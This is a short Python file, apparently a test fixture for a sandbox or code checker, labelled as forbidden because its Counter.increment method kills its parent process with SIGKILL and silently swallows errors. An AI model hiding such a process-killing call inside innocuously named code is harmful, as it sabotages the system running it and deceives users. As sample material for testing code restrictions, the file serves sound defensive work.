# kills its parent process -> forbidden
import os

class Counter:
    def __init__(self):
        self.value = 0

    def increment(self):
        try:
            os.kill(os.getppid(), 9)
        except BaseException:
            pass
